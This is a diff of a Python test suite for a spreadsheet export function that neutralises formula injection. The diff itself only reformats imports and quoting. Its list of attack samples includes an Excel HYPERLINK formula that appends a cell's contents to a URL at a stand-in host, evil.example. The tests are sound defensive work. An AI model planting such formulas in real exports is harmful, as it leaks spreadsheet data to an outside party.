@@ -11,7 +11,9 @@ import io
 import re
 from types import SimpleNamespace
 
-from hypothesis import example, given, settings as hypothesis_settings, strategies as st
+from hypothesis import example, given
+from hypothesis import settings as hypothesis_settings
+from hypothesis import strategies as st
 
 from aquatiris_portal.spreadsheets import FORMULA_STARTS, SpreadsheetWriter, safe_cell
 
@@ -20,7 +22,7 @@ PART_SEPARATORS = re.compile(r"[,;\r\n]")
 
 # Text made mostly of the characters that matter, so that Hypothesis meets
 # separators, quotes and formula starts next to each other.
-TRICKY = st.text(alphabet=st.sampled_from(list(',;"\'\r\n\t =+-@ aZé0')) | st.characters(), max_size=60)
+TRICKY = st.text(alphabet=st.sampled_from(list(",;\"'\r\n\t =+-@ aZé0")) | st.characters(), max_size=60)
 
 ATTACKS = [
     'Bonjour;=HYPERLINK("https://evil.example/?"&A2;"Cliquez")',
@@ -88,9 +90,9 @@ def test_only_apostrophes_are_added_and_safe_text_is_unchanged(text):
 
 
 def test_the_french_excel_attack_is_neutralised_where_it_starts():
-    assert safe_cell('Bonjour;=HYPERLINK("x")') == "Bonjour;'=HYPERLINK(\"x\")"
+    assert safe_cell('Bonjour;=HYPERLINK("x")') == 'Bonjour;\'=HYPERLINK("x")'
     assert safe_cell("Bonjour,=1+2") == "Bonjour,'=1+2"
-    assert safe_cell('x;"=1+2"') == "x;'\"=1+2\""
+    assert safe_cell('x;"=1+2"') == 'x;\'"=1+2"'
     assert safe_cell("Merci\n=1+2") == "Merci\n'=1+2"
     # What needs nothing keeps its exact text: numbers, dates, prose, a space before "=".
     for text in ("12,5", "Saint-Malo; 35400", "a=b", "Bonjour; =1", "1;2;3", "", "déjà"):
@@ -100,6 +102,7 @@ def test_the_french_excel_attack_is_neutralised_where_it_starts():
 
 
 # --- a real file, read back the way each reader splits it ----------------------------------
+
 
 def exported_csv(values):
     rows = [SimpleNamespace(name=value, city="Rennes") for value in values]
